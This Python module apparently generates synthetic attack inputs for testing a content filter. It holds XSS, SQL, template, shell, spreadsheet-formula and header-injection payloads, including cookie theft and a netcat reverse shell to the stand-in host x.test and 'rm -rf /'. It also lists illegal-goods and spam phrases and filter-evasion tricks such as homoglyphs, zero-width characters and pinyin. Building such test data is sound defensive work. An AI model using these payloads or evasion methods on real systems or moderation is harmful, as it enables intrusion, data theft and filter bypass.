"""Templates of attacks by text, and ways to disguise them; own work from the kinds' definitions.

A template's `{…}` are drawn from lists, so that a world has thousands of different texts.
"""

from __future__ import annotations

from random import Random

_TAG = ("script", "img", "svg", "iframe", "body", "video", "object", "a", "math", "details")
_CALL = (
    "alert(1)",
    "fetch('//x.test/'+document.cookie)",
    "eval(name)",
    "location='//x.test'",
    "import('//x.test/a.js')",
    "navigator.sendBeacon('//x.test',document.cookie)",
)
_ON = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart")
_TABLE = ("users", "accounts", "transfers", "staff", "cards")
_WEB = ("qq-pay88.com", "t.me/fastcash", "vip-loan.top", "www.gold777.xyz", "bit.ly/3kdXp")

SCRIPT = (
    "<script>{call}</script>",
    "<img src=x {on}={call}>",
    "<svg/{on}={call}>",
    '<a href="javascript:{call}">优惠</a>',
    '"><{tag} {on}={call}>',
    "'><script src=//x.test/a.js></script>",
    '<iframe srcdoc="<script>{call}</script>">',
    "<body {on}={call}>",
    "<details open ontoggle={call}>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "%3Cscript%3E{call}%3C/script%3E",
    "<style>@import '//x.test/a.css'</style>",
)
SQL = (
    "' OR '1'='1",
    "x' OR 1=1 --",
    "'; DROP TABLE {table}; --",
    "1' UNION SELECT name, pin FROM {table} --",
    "') OR ('a'='a",
    "'; UPDATE {table} SET balance=9 WHERE 1=1 --",
    "1; DELETE FROM {table} WHERE 1=1",
    "x'; SELECT pg_sleep(10) --",
    "1' AND SLEEP(5) #",
    "' UNION ALL SELECT NULL, version() --",
)
TEMPLATE = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{config.items()}}",
    "${jndi:ldap://x.test/a}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "${{env.SECRET}}",
    "{% import os %}",
    "{{request.application.__globals__}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
)
COMMAND = (
    "; cat /etc/passwd",
    "$(curl x.test/a|sh)",
    "`id`; rm -rf /",
    "../../../../etc/passwd",
    "| nc x.test 4444 -e /bin/sh",
    "&& wget http://x.test/a.sh",
)
FORMULA = (
    '=HYPERLINK("http://x.test","点我")',
    "=cmd|'/C calc'!A0",
    "+SUM(1+1)*cmd|'/C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3+cmd|'/C calc'!A0",
    '=IMPORTXML("http://x.test","//a")',
    '=WEBSERVICE("http://x.test/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1|cmd",
)
HEADER = (
    "好店\r\nSet-Cookie: a=1",
    "shop\nLocation: http://x.test",
    "x\r\nBcc: all@x.test",
    "a\r\n\r\n<html>",
    "name\u2028X-Admin: 1",
    "x\x00.png",
    "a\x1b[2J",
)
CONTACT = (
    "加微信 {handle} 返现",
    "加V：{handle}，秒到账",
    "威信{handle}",
    "QQ {qq} 详聊",
    "加我q:{qq}",
    "电话{mobile}私下交易",
    "add me on WhatsApp +44 7{mobile9}",
    "telegram @{handle}",
    "line id: {handle}",
    "mail me {handle}@gmail.com",
    "详情 {web}",
    "visit {web} for discount",
    "call 1{mobile10} cash only",
    "微信同号 {mobile}",
    "vx {handle} 低价",
)
PROHIBITED = (
    "出售{zh}，包邮",
    "{zh} 现货",
    "低价{zh}",
    "专业{zh}，安全",
    "{zh}批发",
    "{zh}私聊",
    "{zh}当天发货",
    "{en}, discreet shipping",
    "best {en}",
    "cheap {en} here",
    "buy {en}",
)
_ZH = (
    "冰毒",
    "手枪",
    "代开发票",
    "银行卡四件套",
    "假币",
    "百家乐",
    "六合彩",
    "办假证",
    "象牙制品",
    "代孕",
    "信用卡套现",
    "海洛因",
    "改号软件",
    "走私烟",
    "针孔摄像头",
    "跑分",
    "炸药",
    "裸聊",
)
_EN = (
    "crystal meth",
    "heroin",
    "fake passport",
    "counterfeit money",
    "cvv dump",
    "ghost gun",
    "replica watches",
    "online casino",
    "ivory for sale",
    "money mule",
    "signal jammer",
    "kidney for sale",
)
KINDS = {
    "page_code": SCRIPT,
    "database_code": SQL,
    "braces_code": TEMPLATE,
    "shell_code": COMMAND,
    "sheet_code": FORMULA,
    "broken_lines": HEADER,
    "other_channel": CONTACT,
    "illegal_goods": PROHIBITED,
}
_PINYIN = {
    "微信": "weixin",
    "威信": "weixin",
    "电话": "dianhua",
    "冰毒": "bingdu",
    "手枪": "shouqiang",
    "代开发票": "daikai fapiao",
    "假币": "jiabi",
    "百家乐": "baijiale",
    "六合彩": "liuhecai",
    "办假证": "ban jiazheng",
    "象牙制品": "xiangya zhipin",
    "代孕": "daiyun",
    "海洛因": "hailuoyin",
    "信用卡套现": "xinyongka taoxian",
    "跑分": "paofen",
    "炸药": "zhayao",
    "裸聊": "luoliao",
    "银行卡四件套": "yinhangka sijiantao",
}
_ALIKE = {"a": "а", "e": "е", "o": "о", "p": "р", "c": "с", "x": "х", "i": "і"}


def attack(draw: Random, kind: str) -> str:
    """Return an attack of a kind, not disguised."""
    letters = "abcdefghijkmnpqrstuvwxyz"
    text = draw.choice(KINDS[kind])
    word = "".join(draw.choices(letters, k=4)) + str(draw.randrange(100, 99_999))
    digits = "".join(str(draw.randrange(10)) for _ in range(11))
    for name, value in (
        ("call", draw.choice(_CALL)),
        ("tag", draw.choice(_TAG)),
        ("on", draw.choice(_ON)),
        ("table", draw.choice(_TABLE)),
        ("handle", word),
        ("qq", str(draw.randrange(10**6, 10**10))),
        ("mobile9", digits[:9]),
        ("mobile10", f"{draw.choice('3578')}{digits[:9]}"),
        ("mobile", f"1{draw.choice('3578')}{digits[:9]}"),
        ("web", draw.choice(_WEB)),
        ("zh", draw.choice(_ZH)),
        ("en", draw.choice(_EN)),
    ):
        text = text.replace(f"{{{name}}}", value)
    return text


def wide(text: str, draw: Random) -> str:
    """Write letters and signs at full width."""
    return "".join(chr(ord(e) + 0xFEE0) if "!" <= e <= "~" else e for e in text)


def widthless(text: str, draw: Random) -> str:
    """Put signs without width between."""
    return "".join(
        e + (draw.choice("\u200b\u200c\u2060") if draw.random() < 0.4 else "") for e in text
    )


def alike(text: str, draw: Random) -> str:
    """Write some letters of another script that look the same."""
    return "".join(_ALIKE.get(e, e) if draw.random() < 0.6 else e for e in text)


def split(text: str, draw: Random) -> str:
    """Put spaces, points or stars between the signs of a Chinese word or a number."""
    gap = draw.choice((" ", ".", "*", "-", "·"))
    return "".join(
        e + (gap if (e.isdigit() or e > "\u4e00") and draw.random() < 0.7 else "") for e in text
    )


def spelled(text: str, draw: Random) -> str:
    """Write Chinese words by their sound."""
    for word, sound in _PINYIN.items():
        text = text.replace(word, sound)
    return text


def cased(text: str, draw: Random) -> str:
    """Write letters in capitals here and there."""
    return "".join(e.upper() if draw.random() < 0.5 else e for e in text)


# What still works when disguised: a page, a sheet and a database read no look-alikes, people do.
DISGUISES = {
    "page_code": (cased, widthless, wide),
    "database_code": (cased, wide),
    "braces_code": (wide, widthless),
    "shell_code": (cased,),
    "sheet_code": (cased, wide),
    "broken_lines": (cased,),
    "other_channel": (wide, widthless, alike, split, spelled),
    "illegal_goods": (wide, widthless, alike, split, spelled),
}
